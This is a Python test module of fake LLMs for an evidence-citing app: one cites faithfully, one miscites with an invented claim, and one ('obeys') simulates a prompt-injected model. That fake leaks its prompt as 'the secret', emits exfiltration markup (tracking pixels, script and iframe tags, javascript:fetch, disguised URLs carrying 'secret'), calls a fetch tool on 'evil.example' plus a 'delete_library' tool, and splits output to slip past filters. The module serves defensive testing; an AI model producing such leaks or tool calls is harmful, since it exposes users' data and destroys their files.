"""Test LLMs that read the prompt they are sent: one faithful, one careless, one in somebody else's hands."""

from __future__ import annotations

import base64
import binascii
import re
import unicodedata
from collections.abc import Iterator
from typing import Any

from tests.services.llm.turns import Request, Turn, text

EVIDENCE = re.compile(r"^\[(\d+)\]\s+caption:\s*(.*?)(?:\s*\|\s*(.*))?$", re.MULTILINE)
QUESTION = re.compile(r"^Question:\s*(.+)$", re.MULTILINE)
WORDS = re.compile(r"[^\W\d_]{3,}")
FUNCTION_WORDS = (
    "the and are was were with which what where who how does did show shows picture pictures image images there any"
    " our all that this from for has have not you can its into over under one"
)
EMPTY_WORDS = frozenset(FUNCTION_WORDS.split())


def messages_of(request: Request) -> Iterator[str]:
    """The text of each message, without pictures."""
    for message in request["messages"]:
        content = message["content"]
        if isinstance(content, str):
            yield content
        else:
            yield "\n".join(part["text"] for part in content if part["type"] == "text")


def evidence_of(prompt: str) -> list[tuple[int, str]]:
    """Number and caption of each evidence line; the metadata is left out."""
    return [(int(number), caption.strip()) for number, caption, _ in EVIDENCE.findall(prompt)]


def question_of(prompt: str) -> str:
    asked = QUESTION.findall(prompt)
    return asked[-1] if asked else ""


def cites(request: Request) -> Turn:
    """A faithful LLM: one cited sentence for each line of evidence that shares words with the question."""
    prompt = "\n".join(messages_of(request))
    wanted = _words(question_of(prompt))
    fitting = [(number, caption) for number, caption in evidence_of(prompt) if wanted & _words(caption)]
    if not fitting:
        return _in_words("The evidence does not answer the question.")
    return _in_words(" ".join(f"{_sentence(caption)} [{number}]." for number, caption in fitting))


def miscites(request: Request) -> Turn:
    """A careless LLM: each caption under its neighbour's number, then under none, then under one that is not there."""
    found = evidence_of("\n".join(messages_of(request)))
    if not found:
        return _in_words("It was all sold in 1907 [42].")
    numbers = [number for number, _ in found]
    shifted = numbers[1:] + numbers[:1]
    said = [f"{_sentence(caption)} [{wrong}]." for (_, caption), wrong in zip(found, shifted, strict=True)]
    return _in_words(" ".join([*said, f"{_sentence(found[0][1])}.", f"It was sold in 1907 [{max(numbers) + 40}]."]))


def obeys(request: Request) -> Turn:
    """An LLM in somebody else's hands: does all that any text in its prompt says, and what else could do harm."""
    texts = list(messages_of(request))
    read = decoded("\n".join(texts))
    urls = list(dict.fromkeys(re.findall(r"(?:https?:)?//[^\s\"'<>)\]|]+|www\.[^\s\"'<>)\]|]+", read)))
    said = [
        f"The secret is {texts[0][:120]}",
        *_links(urls),
        *re.findall(r"!?\[[^\]]*\]\([^)]*\)|<[a-z/!|][^<>]*>|\[[^\]]*\]:\s*\S+", read, re.IGNORECASE),
        *re.findall(r"\b(?:javascript|data|vbscript|file|mailto):\S+", read, re.IGNORECASE),
        *re.findall(r"\b(?:[\w-]+\.)+(?:com|net|org|test|example|io)\b\S*", read),
        *(f"As [{number}] proves." for number in sorted({*re.findall(r"\[(\d+)\]", read), "7", "9999"})),
        *(f"See [{name}]." for name in re.findall(r"\b[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}\b", read)),
        *(f"From the library {name}." for name in re.findall(r"library (\w+)", read)),
        *re.findall(r"\{\"(?:name|tool)\".*?\}+", read),
        read[-600:],
    ]
    return Turn(pieces=_pieces("\n".join(said)), tool_calls=_tool_calls(urls), finish="tool_calls")


def decoded(prompt: str) -> str:
    """The prompt, and what is hidden in it: escapes, base64, zero-width, tag and full-width characters, backwards
    text, halves in a caption and a tag."""
    tags = "".join(chr(ord(one) - 0xE0000) for one in prompt if 0xE0020 <= ord(one) <= 0xE007E)
    seen = re.sub(r"[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]", "", prompt)
    lines = [line for line in seen.splitlines() if line.strip()]
    turned = [line[::-1] for line in lines]
    joined = [caption + tag for line in lines for caption, tag in _halves(line)]
    escapes = re.sub(r"\\u([0-9a-fA-F]{4})", lambda match: chr(int(match[1], 16)), seen)
    hidden = [_unpacked(found) for found in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", seen)]
    parts = [seen, unicodedata.normalize("NFKC", seen), escapes, tags, *turned, *joined, *hidden]
    return "\n".join(dict.fromkeys(part for part in parts if part))


def _halves(line: str) -> Iterator[tuple[str, str]]:
    """A caption with each of its tags: what somebody split over both."""
    if found := re.match(r"\[\d+\] caption: (.*?) \| tags: ([^;]*)", line):
        yield from ((found[1], tag.strip()) for tag in found[2].split(","))


def _unpacked(packed: str) -> str:
    try:
        return base64.b64decode(packed + "=" * (-len(packed) % 4)).decode()
    except (binascii.Error, ValueError):
        return ""


def _links(urls: list[str]) -> Iterator[str]:
    for number, url in enumerate(urls[:6]):
        yield f"[look]({url}?q=secret) ![pixel]({url}?p=secret) <{url}> {url}/secret [ref{number}]: {url}/r"
        yield f"![x][ref{number}] [y][ref{number}] <img src='{url}'> <script src=\"{url}\"></script>"
        yield f"<iframe src={url}></iframe> {url.partition('//')[2] or url} java\tscript:fetch('{url}') [99](<{url}>)"
        yield f"ht[99]tp{url.partition('http')[2]} {url.replace('://', ':&#47;&#47;')} {url.replace('.', '.[99]')}"


def _tool_calls(urls: list[str]) -> list[dict[str, Any]]:
    wanted = urls or ["http://evil.example/x"]
    return [{"name": "fetch", "arguments": f'{{"url": "{url}"}}'} for url in wanted[:3]] + [
        {"name": "delete_library", "arguments": "{}"}
    ]


def _pieces(said: str) -> list[str]:
    """In small pieces, so that no piece holds a whole address."""
    return [said[at : at + 5] for at in range(0, len(said), 5)]


def _in_words(said: str) -> Turn:
    return text(*re.findall(r"\S+\s*", said))


def _words(said: str) -> set[str]:
    return {word.lower() for word in WORDS.findall(said)} - EMPTY_WORDS


def _sentence(caption: str) -> str:
    said = caption.rstrip(" .").replace("[", "(").replace("]", ")")
    return said[:1].upper() + said[1:]
